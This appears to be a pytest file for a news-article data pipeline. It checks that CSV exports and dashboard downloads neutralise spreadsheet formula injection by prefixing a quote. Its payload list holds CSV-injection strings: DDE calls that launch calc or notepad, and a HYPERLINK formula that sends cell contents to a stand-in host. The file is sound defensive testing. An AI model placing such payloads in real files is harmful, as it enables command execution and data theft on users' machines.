"""CSV exports: no cell of article text may run as a formula when opened in a spreadsheet."""

from __future__ import annotations

import csv
import io
import tomllib
from pathlib import Path

import pandas as pd
import pytest

from data.cli import main
from data.pipeline import ingest_frames
from data.schema import RAW_COLUMNS
from data.spreadsheet import FORMULA_START, csv_bytes, defused, formula_safe
from data.store import Store
from views.common import article_rows

ROOT = Path(__file__).resolve().parents[1]
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://contoh.test/curi?d="&A1, "Klik di sini")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


def _cells(payload: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(payload.decode("utf-8"))) for cell in row]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_get_a_leading_quote(payload):
    assert defused(payload) == "'" + payload


def test_other_cells_are_left_alone():
    frame = pd.DataFrame(
        {
            "title": ["Banjir di Serang", "= tetap teks", None, "2+2", "e-mail"],
            "n": [-5, 3, 0, 1, 2],
            "score": [-0.5, 1.0, float("nan"), 2.0, 3.0],
        }
    )
    safe = formula_safe(frame)
    assert safe["title"].tolist()[:2] == ["Banjir di Serang", "'= tetap teks"]
    assert safe["title"].isna().tolist() == [False, False, True, False, False]
    assert safe["title"].tolist()[3:] == ["2+2", "e-mail"]
    pd.testing.assert_series_equal(safe["n"], frame["n"])
    pd.testing.assert_series_equal(safe["score"], frame["score"])


@pytest.fixture
def hostile_store(tmp_path) -> Store:
    raw = pd.DataFrame(
        {
            "title": PAYLOADS,
            "text": [f"Isi berita nomor {n} tentang pasar dan jalan desa." for n in range(8)],
            "date": "2025-11-03",
            "url": [f"https://kabar.example.id/{n}" for n in range(8)],
            "source": '=HYPERLINK("http://contoh.test")',
        }
    ).reindex(columns=list(RAW_COLUMNS))
    store = Store(tmp_path / "store")
    ingest_frames([raw.assign(file="uji.csv", row=range(1, 9))], store)
    return store


def test_data_export_escapes_every_formula_cell(hostile_store, tmp_path):
    out = tmp_path / "ekspor.csv"
    assert main(["export", "--store", str(hostile_store.path), "--out", str(out)]) == 0
    cells = _cells(out.read_bytes())
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    exported = pd.read_csv(out)
    titles = hostile_store.articles()["title"]  # as cleaned at ingest (spaces stripped)
    assert sorted(exported["title"]) == sorted("'" + title for title in titles)
    assert set(exported["source"]) == {'\'=HYPERLINK("http://contoh.test")'}


def test_the_articles_page_csv_escapes_every_formula_cell(hostile_store):
    articles = hostile_store.articles().assign(topic_label="=1+1")
    payload = csv_bytes(article_rows(articles))
    assert not [cell for cell in _cells(payload) if cell.startswith(FORMULA_START)]
    assert "'=cmd|' /C calc'!A0" in _cells(payload)


def test_the_dashboards_tables_offer_no_unescaped_csv_download():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True
